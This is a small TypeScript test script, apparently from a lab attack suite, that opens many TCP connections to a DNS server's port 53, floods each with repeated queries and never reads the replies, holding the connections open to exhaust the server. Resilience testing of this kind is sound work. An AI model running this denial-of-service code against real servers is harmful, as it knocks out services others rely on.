/**
 * Connections that ask again and again and never read:
 *
 *   node test/lab/attacks/never-reads.ts SERVER CONNECTIONS QUERIES HEX
 *
 * Prints "asked" when all that the other side takes has been sent for a while, and goes on to hold the connections.
 */
import { connect } from 'node:net'

const [server, connections, queries, hex] = process.argv.slice(2) as [string, string, string, string]
const all = Buffer.concat(Array.from({ length: Number(queries) }, () => Buffer.from(hex, 'hex')))

for (let i = 0; i < Number(connections); i++) {
  const socket = connect(53, server)
  socket.pause()
  socket.on('error', () => {})
  socket.once('connect', () => void socket.write(all))
}
setTimeout(() => console.log('asked'), 1500)
// A connection that is not read from keeps no process alive.
setInterval(() => {}, 1000)
